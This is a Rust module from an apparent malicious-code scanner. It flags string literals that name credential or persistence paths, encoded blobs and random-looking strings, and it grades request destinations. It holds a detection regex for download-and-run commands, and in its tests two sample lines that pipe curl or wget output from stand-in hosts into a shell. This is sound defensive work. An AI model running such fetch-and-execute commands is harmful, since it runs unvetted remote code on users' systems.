//! Checks on string literals, the same for every language: credential and persistence paths, encoded
//! blobs, random-looking strings.
//!
//! The caller hands over the decoded value (escapes resolved, constant pieces joined) and the source
//! text, so `"\x2e\x73\x73\x68"` is seen as `.ssh` and its escape density is still measured.

use std::ops::Range;

use palisade_scan::report::Severity;
use regex::Regex;
use std::sync::LazyLock;

use super::{FileScan, Hit};
use crate::paths::{self, PERSISTENCE, SENSITIVE};
use crate::rules;
use crate::text;

/// A literal this long (in characters) of base64 or hex is an encoded blob.
pub(crate) const BLOB_MIN: usize = 256;
/// Random-looking strings are considered from this length up (shorter ones are ids and hashes).
const ENTROPY_MIN_LEN: usize = 32;
/// Bits per character above which a string is random-looking (random base64 is ≈ 5.5–6).
const ENTROPY_BITS: f64 = 4.6;

/// A literal with four or more words is prose (an error message that mentions `~/.ssh`), not a path.
fn is_prose(s: &str) -> bool {
    s.split_whitespace().count() >= 4
}

static DOWNLOAD_EXEC: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)\b(?:curl|wget)\b[^|;&]*\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b|(?:iex|invoke-expression)\b.*(?:downloadstring|iwr|invoke-webrequest)|(?:downloadstring|iwr|invoke-webrequest).*\|\s*iex\b",
    )
    .expect("download-exec regex")
});

/// Whether a command line downloads a script and pipes it into a shell.
pub(crate) fn downloads_and_runs(s: &str) -> bool {
    DOWNLOAD_EXEC.is_match(s)
}

/// Path checks only (credential stores, persistence locations); returns whether one matched, so a
/// folded expression is not reported twice when one of its pieces already was.
pub(crate) fn check_paths(scan: &mut FileScan, value: &str, range: Range<usize>) -> bool {
    let mut matched = false;
    let prose = is_prose(value);
    if let Some(c) = paths::classify(&SENSITIVE, value) {
        matched = true;
        let (severity, message) = if prose {
            (
                Severity::Low,
                format!(
                    "a message mentions {} (`{}`)",
                    c.label,
                    text::snippet(value, 60)
                ),
            )
        } else {
            if scan.facts.secret_path.is_none() {
                scan.facts.secret_path = Some((range.clone(), c.label));
            }
            (
                Severity::High,
                format!("names {}: `{}`", c.label, text::snippet(value, 60)),
            )
        };
        scan.hits.push(Hit {
            rule: &rules::SENSITIVE_FILE_ACCESS,
            severity,
            range: range.clone(),
            message,
            evidence: text::snippet(value, 80),
        });
    }
    if let Some(c) = paths::classify(&PERSISTENCE, value) {
        matched = true;
        // Severity is settled per file once it is known whether the file writes anything.
        let severity = if prose {
            Severity::Low
        } else {
            Severity::Medium
        };
        if !prose {
            scan.facts.persistence.push(scan.hits.len());
        }
        scan.hits.push(Hit {
            rule: &rules::PERSISTENCE_WRITE,
            severity,
            range,
            message: if prose {
                format!(
                    "a message mentions {} (`{}`)",
                    c.label,
                    text::snippet(value, 60)
                )
            } else {
                format!("names {}: `{}`", c.label, text::snippet(value, 60))
            },
            evidence: text::snippet(value, 80),
        });
    }
    matched
}

/// Which checks [`check`] runs besides the encoded-blob one.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Checks {
    /// Credential and persistence paths.
    pub(crate) paths: bool,
    /// Random-looking strings.
    pub(crate) entropy: bool,
}

/// Every check.
pub(crate) const ALL: Checks = Checks {
    paths: true,
    entropy: true,
};

/// Checks on one literal: paths, then encoded blobs, then entropy.
pub(crate) fn check(
    scan: &mut FileScan,
    value: &str,
    raw: &str,
    range: Range<usize>,
    checks: Checks,
) {
    if value.len() < 3 {
        return;
    }
    if checks.paths {
        check_paths(scan, value, range.clone());
    }
    let chars = value.chars().count();
    // Escape-encoded text: most of the source is \x / \u escapes.
    let escapes = raw.matches("\\x").count() + raw.matches("\\u").count();
    if escapes >= 24 && escapes * 4 * 2 >= raw.len() {
        scan.hits.push(Hit {
            rule: &rules::ENCODED_BLOB,
            severity: Severity::Medium,
            range,
            message: format!(
                "a string written as {escapes} escape sequences decodes to `{}`",
                text::snippet(value, 60)
            ),
            evidence: text::snippet(raw, 60),
        });
        return;
    }
    if chars >= BLOB_MIN {
        if let Some(kind) = blob_kind(value) {
            let bytes = (kind == "base64")
                .then(|| text::base64_decode(value.trim()))
                .flatten();
            if bytes.as_deref().is_some_and(is_media) {
                // An inline image or font (icons, a logo): data, not a payload.
                return;
            }
            let decoded = match bytes.as_deref() {
                Some(b) if b.starts_with(b"\0asm") => "; it decodes to a WebAssembly module".into(),
                Some(b) => text::printable(b)
                    .map(|t| format!("; it decodes to text: `{}`", text::snippet(&t, 60)))
                    .unwrap_or_default(),
                None => String::new(),
            };
            scan.hits.push(Hit {
                rule: &rules::ENCODED_BLOB,
                severity: Severity::Medium,
                range,
                message: format!("a {chars}-character {kind} literal{decoded}"),
                evidence: format!("{} ({chars} chars)", text::snippet(value, 40)),
            });
        }
        return;
    }
    if checks.entropy
        && chars >= ENTROPY_MIN_LEN
        && !value.contains(char::is_whitespace)
        && !value.contains("://")
        && value.matches('/').count() < 3
        && !text::has_alphabet_run(value)
        && text::entropy(value) >= ENTROPY_BITS
    {
        scan.hits.push(Hit {
            rule: &rules::HIGH_ENTROPY_STRING,
            severity: Severity::Low,
            range,
            message: format!(
                "a random-looking {chars}-character string ({:.1} bits/char)",
                text::entropy(value)
            ),
            evidence: text::masked(value),
        });
    }
}

/// Whether a piece is by itself a credential or persistence path: reported on its own, so the whole it
/// is part of adds nothing.
fn names_a_path(piece: &str) -> bool {
    paths::classify(&SENSITIVE, piece).is_some() || paths::classify(&PERSISTENCE, piece).is_some()
}

/// The constant arguments of a path join (`path.join(home, ".ssh")`, `os.path.join`) joined with `/`, for
/// a credential or persistence path split across them.
pub(crate) fn check_path_join(scan: &mut FileScan, parts: &[String], range: Range<usize>) {
    if parts.len() >= 2 && !parts.iter().any(|p| names_a_path(p)) {
        check_paths(scan, &parts.join("/"), range);
    }
}

/// The pieces of a concatenation (`None`: one computed at run time) joined with `sep`, for paths split
/// across pieces and payloads split into short strings. With every piece constant and short, the whole
/// gets every check (the pieces were checked one by one); otherwise only the path check.
pub(crate) fn check_joined(
    scan: &mut FileScan,
    pieces: &[Option<String>],
    sep: &str,
    range: Range<usize>,
) {
    let constant: Vec<&str> = pieces.iter().flatten().map(String::as_str).collect();
    if constant.len() < 2 {
        return;
    }
    let joined = constant.join(sep);
    let alone = constant.iter().any(|p| names_a_path(p));
    let longest = constant
        .iter()
        .map(|s| s.chars().count())
        .max()
        .unwrap_or(0);
    if constant.len() == pieces.len() && longest < BLOB_MIN {
        let checks = Checks {
            paths: !alone,
            entropy: longest < 32,
        };
        check(scan, &joined, &joined, range, checks);
    } else if !alone {
        check_paths(scan, &joined, range);
    }
}

/// Severity and wording for a request to `url` (a literal) or to a computed destination: a constant
/// `https://` URL lowers a low severity to info; a public IP address over plain HTTP raises it to medium.
pub(crate) fn destination(url: Option<&str>, base: Severity) -> (Severity, String) {
    match url {
        Some(u) if u.starts_with("https://") => (
            if base <= Severity::Low {
                Severity::Info
            } else {
                base
            },
            format!("a constant URL (`{}`)", text::snippet(u, 60)),
        ),
        Some(u) if u.starts_with("http://") => {
            let host = u[7..].split(['/', ':', '?']).next().unwrap_or("");
            let public_ip = host
                .parse::<std::net::Ipv4Addr>()
                .is_ok_and(|ip| !ip.is_loopback() && !ip.is_private() && !ip.is_unspecified());
            if public_ip {
                (
                    base.max(Severity::Medium),
                    format!(
                        "a bare IP address over plain HTTP (`{}`)",
                        text::snippet(u, 60)
                    ),
                )
            } else {
                (
                    base,
                    format!("a constant plain-HTTP URL (`{}`)", text::snippet(u, 60)),
                )
            }
        }
        Some(u) => (base, format!("`{}`", text::snippet(u, 60))),
        None => (base, "a destination computed at run time".into()),
    }
}

/// Whether decoded bytes are an image, font or audio file (by magic number).
fn is_media(b: &[u8]) -> bool {
    const MAGIC: &[&[u8]] = &[
        b"\x89PNG",
        b"\xff\xd8\xff",
        b"GIF8",
        b"RIFF",
        b"wOFF",
        b"wOF2",
        b"OTTO",
        b"\0\x01\0\0",
        b"ID3",
        b"OggS",
        b"<svg",
        b"<?xml",
        b"BM",
    ];
    MAGIC.iter().any(|m| b.starts_with(m))
}

/// `base64`, `hex` or `data URI` when a long literal is one of those (and not an image or font).
fn blob_kind(value: &str) -> Option<&'static str> {
    let v = value.trim();
    if let Some(rest) = v.strip_prefix("data:") {
        let mime = rest.split([';', ',']).next().unwrap_or("");
        let media = ["image/", "font/", "audio/", "video/", "application/font"];
        return (!media.iter().any(|m| mime.starts_with(m))).then_some("data URI");
    }
    let body: String = v.chars().filter(|c| !c.is_ascii_whitespace()).collect();
    if body.len() < BLOB_MIN {
        return None;
    }
    if body.bytes().all(|b| b.is_ascii_hexdigit()) && text::entropy(&body) > 3.0 {
        return Some("hex");
    }
    let b64 = body
        .bytes()
        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_'));
    let mixed = body.bytes().any(|b| b.is_ascii_digit())
        && body.bytes().any(|b| b.is_ascii_uppercase())
        && body.bytes().any(|b| b.is_ascii_lowercase());
    (b64 && mixed && text::entropy(&body) > 4.0).then_some("base64")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn blobs_are_base64_hex_or_code_data_uris_but_not_images() {
        // 300 pseudo-random base64 characters.
        let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut x: u32 = 12345;
        let b64: String = (0..300)
            .map(|_| {
                x = x.wrapping_mul(1_103_515_245).wrapping_add(12_345);
                alphabet[(x >> 16) as usize % 64] as char
            })
            .collect();
        assert_eq!(blob_kind(&b64), Some("base64"));
        let hex: String = b64.bytes().map(|b| format!("{:x}", b % 16)).collect();
        assert_eq!(blob_kind(&hex), Some("hex"));
        assert_eq!(
            blob_kind(&format!("data:image/png;base64,{b64}")),
            None,
            "inline images are not payloads"
        );
        assert_eq!(
            blob_kind(&format!("data:text/javascript;base64,{b64}")),
            Some("data URI")
        );
        assert_eq!(blob_kind(&"a".repeat(300)), None, "one letter repeated");
    }

    #[test]
    fn download_and_run_command_lines_are_spotted() {
        assert!(downloads_and_runs(
            "curl -fsSL https://x.example/i.sh | bash"
        ));
        assert!(downloads_and_runs("wget -qO- http://1.2.3.4/a | sudo sh"));
        assert!(!downloads_and_runs(
            "curl -o out.tgz https://x.example/a.tgz"
        ));
    }
}
